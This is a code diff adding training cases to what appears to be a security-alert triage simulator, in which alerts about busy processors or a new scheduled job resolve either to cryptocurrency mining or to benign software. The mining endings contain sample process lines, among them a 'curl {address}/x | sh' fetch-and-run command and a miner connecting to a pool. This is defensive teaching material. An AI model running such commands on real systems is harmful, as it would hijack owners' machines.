@@ -1,8 +1,78 @@
-"""More cases to learn from that may be mining."""
+"""Training cases whose alert may be cryptocurrency mining."""
 
 from authoring.triage.world import Case, Ending
 
 CASES = (
+    Case(
+        "hot_laptop",
+        "Processor busy for hours",
+        (
+            "{host} has been at full load since {earlier}, account {user}.",
+            "All cores of {host} have been busy without a break since {earlier}. Signed in: {user}.",
+            "{user} complains that {host} is slow and hot. Load: 100 % since {earlier}.",
+            "Load of {host}, the computer of {user}, has not dropped below 97 % since {earlier}.",
+        ),
+        (
+            Ending(
+                "mining",
+                {"processes": "svchost.exe (in C:\\Users\\Public)\n  {file}.exe --pool {address}:3333 --threads 8"},
+            ),
+            Ending(
+                "known_software",
+                {
+                    "processes": (
+                        "explorer.exe\n"
+                        "  render.exe (signed, licence of the design team), frame {number} of 1000 of a film"
+                    )
+                },
+            ),
+        ),
+    ),
+    Case(
+        "build_miner",
+        "Build server busy without a build",
+        (
+            "{host} is at full load, and no build is queued.",
+            "The queue is empty, yet every core of {host} is at work.",
+            "{host} builds nothing at the moment. Its load says otherwise: 100 %.",
+            "Why is {host} running hot with no build waiting? Please look into it.",
+        ),
+        (
+            Ending(
+                "mining", {"processes": "agent\n  bash -c 'curl {address}/x | sh'\n    {file} -o stratum --donate 1"}
+            ),
+            Ending(
+                "planned_change",
+                {"change": ("{change} {host} {start}-{end}: all packages compiled anew outside the queue, by {user}")},
+            ),
+        ),
+        server=True,
+    ),
+    Case(
+        "scheduled_job",
+        "New scheduled job",
+        (
+            'A job that starts "{file}" every minute was added on {host}.',
+            "{host} will now start {file} once a minute: new line in the job table.",
+            'Job table of {host}: "* * * * * {file}" was not there an hour ago.',
+            "Every minute {host} runs {file}; nobody told us about that job.",
+        ),
+        (
+            Ending(
+                "mining",
+                {
+                    "processes": (
+                        "cron\n  {file}, from /tmp, unsigned\n    connected to {address}, sends hashes, uses all cores"
+                    )
+                },
+            ),
+            Ending(
+                "known_software",
+                {"processes": "cron\n  {file} (of our monitoring, signed), sends the free disk space, 0.1 s each"},
+            ),
+        ),
+        server=True,
+    ),
     Case(
         "all_night",
         "Laptop never sleeps",
